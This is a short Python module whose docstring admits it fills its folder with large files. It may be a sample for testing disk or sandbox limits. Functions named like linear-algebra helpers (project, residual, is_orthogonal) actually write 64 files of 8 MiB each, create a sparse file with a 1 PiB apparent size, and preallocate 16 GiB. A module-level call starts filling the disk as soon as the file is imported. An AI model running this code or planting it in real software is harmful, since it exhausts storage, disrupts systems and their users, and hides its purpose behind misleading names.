"""Fills its folder with large files, with one that has holes, and past its end."""
import os


def fill(name):
    for index in range(64):
        with open(f"{name}{index}", "wb") as file:
            file.write(b"x" * (8 << 20))


def project(A, b):
    fill("big")


def residual(A, b):
    with open("holes", "wb") as file:
        file.truncate(1 << 50)
        file.seek(1 << 49)
        file.write(b"x")


def is_orthogonal(a, b):
    fd = os.open("grown", os.O_RDWR | os.O_CREAT)
    os.posix_fallocate(fd, 0, 1 << 34)


fill("loaded")
